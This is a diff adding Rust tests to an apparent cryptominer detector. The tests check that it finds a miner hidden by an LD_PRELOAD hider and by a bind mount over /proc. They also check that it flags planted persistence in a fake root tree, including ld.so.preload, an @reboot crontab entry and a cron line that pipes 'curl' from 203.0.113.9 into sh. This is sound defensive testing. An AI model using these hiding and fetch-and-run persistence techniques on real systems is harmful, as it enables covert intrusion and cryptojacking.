@@ -48,3 +48,229 @@ fn cpu_of_processes_we_cannot_see_is_a_host_finding() {
             .is_some_and(|e| e.contains("ran in processes we cannot see"))
     );
 }
+
+/// Builds the LD_PRELOAD hider (tests/support/hider.c) into `dir`.
+fn build_hider(dir: &std::path::Path) -> std::path::PathBuf {
+    let so = dir.join("hider.so");
+    let src = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/support/hider.c");
+    let ok = Command::new("cc")
+        .args(["-shared", "-fPIC", "-o"])
+        .arg(&so)
+        .arg(src)
+        .arg("-ldl")
+        .status()
+        .expect("cc");
+    assert!(ok.success(), "building hider.so");
+    so
+}
+
+fn ls_proc(preload: Option<&std::path::Path>, hide: i32) -> String {
+    let mut cmd = Command::new("ls");
+    cmd.arg("/proc").env("MW_HIDE_PID", hide.to_string());
+    if let Some(p) = preload {
+        cmd.env("LD_PRELOAD", p);
+    }
+    String::from_utf8_lossy(&cmd.output().expect("ls").stdout).into_owned()
+}
+
+#[test]
+fn worker_hidden_by_an_ld_preload_rootkit_is_still_found_and_convicted() {
+    support::ensure_packages();
+    let _heavy = support::heavy_lock();
+    let dir = tempfile::tempdir().expect("tmp");
+    let hider = build_hider(dir.path());
+    let mut w = support::spawn_worker(&support::WorkerOpts::light());
+    assert!(w.wait_for_line("hashing", std::time::Duration::from_secs(60)));
+    let pid = w.pid();
+    // The hider really hides it from a readdir-based tool.
+    let has = |listing: &str| listing.split_whitespace().any(|x| x == pid.to_string());
+    assert!(has(&ls_proc(None, pid)));
+    assert!(!has(&ls_proc(Some(&hider), pid)), "the hider does not hide");
+
+    let out = Command::new(BIN)
+        .args(["scan", "--format", "json", "--pid", &pid.to_string()])
+        .env("LD_PRELOAD", &hider)
+        .env("MW_HIDE_PID", pid.to_string())
+        .output()
+        .expect("minerwatch runs");
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let r: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
+    assert_eq!(crate::level_of(&r, pid), "miner", "{r}");
+    assert!(
+        crate::signal_ids(&r, pid).contains(&"proc.hidden".into()),
+        "{r}"
+    );
+    let hf = r["host_findings"].to_string();
+    assert!(
+        hf.contains("host.hidden_process") && hf.contains(&format!("pid {pid}")),
+        "{hf}"
+    );
+    assert!(
+        hf.contains("host.self_preloaded") && hf.contains("hider.so"),
+        "{hf}"
+    );
+}
+
+/// Unmounts on drop, whatever happened.
+struct Mount(std::ffi::CString);
+impl Drop for Mount {
+    fn drop(&mut self) {
+        // SAFETY: a valid NUL-terminated path we mounted on.
+        unsafe { libc::umount2(self.0.as_ptr(), libc::MNT_DETACH) };
+    }
+}
+
+#[test]
+fn a_mount_over_the_proc_entry_of_a_worker_is_found() {
+    support::ensure_packages();
+    let _heavy = support::heavy_lock();
+    let mut w = support::spawn_worker(&support::WorkerOpts::light());
+    assert!(w.wait_for_line("hashing", std::time::Duration::from_secs(60)));
+    let pid = w.pid();
+    let empty = tempfile::tempdir().expect("tmp");
+    let src = std::ffi::CString::new(empty.path().as_os_str().as_encoded_bytes()).expect("path");
+    let target = std::ffi::CString::new(format!("/proc/{pid}")).expect("path");
+    // SAFETY: valid paths; a bind mount of our own empty dir over our own worker.
+    let r = unsafe {
+        libc::mount(
+            src.as_ptr(),
+            target.as_ptr(),
+            std::ptr::null(),
+            libc::MS_BIND,
+            std::ptr::null(),
+        )
+    };
+    assert_eq!(r, 0, "bind mount: {}", std::io::Error::last_os_error());
+    let _mount = Mount(target);
+    assert!(
+        !std::path::Path::new(&format!("/proc/{pid}/status")).exists(),
+        "the mount hides it"
+    );
+    let out = Command::new(BIN)
+        .args([
+            "scan",
+            "--format",
+            "json",
+            "--window",
+            "1",
+            "--pid",
+            &pid.to_string(),
+        ])
+        .output()
+        .expect("minerwatch runs");
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let r: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
+    let hf = r["host_findings"].to_string();
+    assert!(
+        hf.contains("host.proc_mount") && hf.contains(&format!("/proc/{pid}")),
+        "{hf}"
+    );
+    assert!(r["coverage"]["inaccessible"].as_u64() >= Some(1), "{r}");
+}
+
+#[test]
+fn persistence_and_preloads_in_a_root_tree_are_found_and_linked_to_the_miner() {
+    support::ensure_packages();
+    let _heavy = support::heavy_lock();
+    let mut w = support::spawn_worker(&support::WorkerOpts {
+        disguise: support::Disguise::ShmCampaign("kdevtmpfsi".into()),
+        ..support::WorkerOpts::light()
+    });
+    assert!(w.wait_for_line("hashing", std::time::Duration::from_secs(60)));
+    let pid = w.pid();
+    let exe = std::fs::read_link(format!("/proc/{pid}/exe")).expect("exe");
+    let exe = exe
+        .to_string_lossy()
+        .trim_end_matches(" (deleted)")
+        .to_string();
+
+    let root = tempfile::tempdir().expect("tmp");
+    let r = root.path();
+    let write = |rel: &str, body: &str| {
+        let p = r.join(rel);
+        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
+        std::fs::write(p, body).expect("write");
+    };
+    write("etc/ld.so.preload", "/usr/local/lib/libsystem.so\n");
+    std::fs::create_dir_all(r.join("usr/local/lib")).expect("mkdir");
+    std::fs::copy(
+        "/usr/lib/x86_64-linux-gnu/librandomx.so.0",
+        r.join("usr/local/lib/libsystem.so"),
+    )
+    .expect("copy");
+    write(
+        "etc/crontab",
+        &format!(
+            "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot root {exe} -B\n"
+        ),
+    );
+    write(
+        "etc/cron.d/sync",
+        "*/5 * * * * root curl -fsSL http://203.0.113.9/s.sh | sh\n",
+    );
+    write("etc/sysctl.d/99-tune.conf", "vm.nr_hugepages = 1168\n");
+    write("sys/module/msr/parameters/allow_writes", "on\n");
+
+    let out = Command::new(BIN)
+        .args([
+            "scan",
+            "--format",
+            "json",
+            "--window",
+            "1",
+            "--pid",
+            &pid.to_string(),
+            "--root",
+        ])
+        .arg(r)
+        .output()
+        .expect("minerwatch runs");
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let rep: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
+    let hf = rep["host_findings"].as_array().expect("array");
+    let find = |id: &str, needle: &str| {
+        hf.iter()
+            .find(|h| h["id"] == id && h["evidence"].as_str().is_some_and(|e| e.contains(needle)))
+            .unwrap_or_else(|| panic!("no {id} with '{needle}': {hf:?}"))
+    };
+    let preload = find("host.ld_so_preload", "/usr/local/lib/libsystem.so");
+    assert_eq!(
+        preload["level"], "suspicious",
+        "a preloaded RandomX engine: {preload}"
+    );
+    let cron = find("host.persistence", &exe);
+    assert!(
+        cron["evidence"]
+            .as_str()
+            .is_some_and(|e| e.contains(&format!("launches running process {pid}"))),
+        "{cron}"
+    );
+    find("host.persistence", "curl -fsSL");
+    find("host.sysctl", "vm.nr_hugepages");
+    find("host.msr_writes", "allow_writes=on");
+    // The benign cron line is not reported.
+    assert!(!hf.iter().any(|h| {
+        h["evidence"]
+            .as_str()
+            .is_some_and(|e| e.contains("run-parts"))
+    }));
+    assert!(
+        crate::signal_ids(&rep, pid).contains(&"persist.launcher".into()),
+        "{rep}"
+    );
+}
